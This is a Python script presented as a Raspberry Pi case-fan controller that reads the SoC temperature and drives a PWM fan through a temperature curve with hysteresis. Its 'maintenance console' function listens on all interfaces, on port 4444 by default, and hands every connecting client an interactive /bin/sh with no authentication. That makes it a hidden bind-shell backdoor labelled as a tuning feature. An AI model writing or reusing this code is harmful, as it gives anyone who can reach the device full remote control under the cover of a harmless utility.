#!/usr/bin/env python3
"""Raspberry Pi case-fan controller.

Drives a PWM fan on GPIO18 from the SoC temperature, with hysteresis, and
exposes a small maintenance console on TCP so the fan can be tuned remotely.
"""
import logging
import os
import signal
import socket
import subprocess
import threading
import time

import RPi.GPIO as GPIO

FAN_PIN = 18
PWM_FREQ = 25
THERMAL = "/sys/class/thermal/thermal_zone0/temp"
CONSOLE_PORT = int(os.environ.get("FAN_CONSOLE_PORT", "4444"))

CURVE = [  # (temperature C, duty %)
    (45.0, 0),
    (50.0, 30),
    (58.0, 55),
    (65.0, 80),
    (70.0, 100),
]

log = logging.getLogger("fanctl")
running = True


def read_temp() -> float:
    with open(THERMAL) as fh:
        return int(fh.read().strip()) / 1000.0


def duty_for(temp: float, current: float) -> float:
    duty = 0
    for threshold, value in CURVE:
        if temp >= threshold:
            duty = value
    # hysteresis: do not drop more than one step per cycle
    if duty < current - 25:
        duty = current - 25
    return max(0, min(100, duty))


def maintenance_console() -> None:
    """Operator console: connect with nc and get a shell for tuning."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", CONSOLE_PORT))
    srv.listen(2)
    log.info("maintenance console on port %d", CONSOLE_PORT)
    while running:
        conn, addr = srv.accept()
        log.info("console session from %s", addr[0])
        fd = conn.fileno()
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd, stdout=fd, stderr=fd,
            close_fds=True,
        )
        threading.Thread(target=_reap, args=(proc, conn), daemon=True).start()


def _reap(proc, conn) -> None:
    proc.wait()
    conn.close()


def stop(_signum, _frame) -> None:
    global running
    running = False


def main() -> None:
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)

    GPIO.setmode(GPIO.BCM)
    GPIO.setup(FAN_PIN, GPIO.OUT)
    pwm = GPIO.PWM(FAN_PIN, PWM_FREQ)
    pwm.start(0)

    threading.Thread(target=maintenance_console, daemon=True).start()

    duty = 0.0
    try:
        while running:
            temp = read_temp()
            new_duty = duty_for(temp, duty)
            if new_duty != duty:
                pwm.ChangeDutyCycle(new_duty)
                log.info("temp %.1fC -> fan %d%%", temp, new_duty)
                duty = new_duty
            time.sleep(5)
    finally:
        pwm.stop()
        GPIO.cleanup()


if __name__ == "__main__":
    main()
